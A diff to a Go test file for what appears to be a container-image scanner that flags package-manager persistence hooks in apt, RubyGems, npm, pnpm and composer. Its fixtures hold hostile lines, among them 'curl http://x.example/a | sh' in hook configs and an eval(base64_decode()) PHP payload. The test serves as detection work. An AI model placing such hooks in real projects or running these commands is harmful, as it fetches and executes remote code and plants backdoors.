@@ -47,6 +47,13 @@ func TestPlacesOfTheSystem(t *testing.T) {
 		"a hook of apt":                       {[]member{file("etc/apt/apt.conf.d/99x", "APT::Update::Post-Invoke { \"curl http://x.example/a | sh\"; };\n")}, []string{"high package-hook /etc/apt/apt.conf.d/99x"}},
 		"the hook that clears apt's cache":    {[]member{file("etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n")}, []string{"low package-hook /etc/apt/apt.conf.d/docker-clean"}},
 		"settings of apt":                     {[]member{file("etc/apt/apt.conf.d/docker-gzip", "Acquire::GzipIndexes \"true\";\n")}, nil},
+		"a plugin of RubyGems":                {[]member{file("usr/lib/ruby/vendor_ruby/rubygems_plugin.rb", "system('curl http://x.example/a | sh')\n")}, []string{"high gem /usr/lib/ruby/vendor_ruby/rubygems_plugin.rb"}},
+		"a shell for npm's scripts":           {[]member{file("app/.npmrc", "script-shell=/app/sh\n"), exe("app/sh", "#!/bin/sh\n"+fetch)}, []string{"high node-config /app/.npmrc"}},
+		"settings of npm":                     {[]member{file("app/.npmrc", "registry=https://registry.example\n")}, nil},
+		"a hook of pnpm":                      {[]member{file("app/.pnpmfile.cjs", "require('child_process').execSync('curl http://x.example/a | sh')\n")}, []string{"high node-config /app/.pnpmfile.cjs"}},
+		"a plugin of composer": {append([]member{
+			file("srv/vendor/composer/installed.json", `{"packages": [{"name": "a/p", "type": "composer-plugin", "extra": {"class": "A\\\\P"}}]}`)},
+			file("srv/vendor/a/p/src/P.php", "<?php\n@eval(base64_decode('eA=='));\n")), []string{"high composer /srv/vendor/composer/installed.json"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			c := inspected(t, image{members: test.members}, nil)
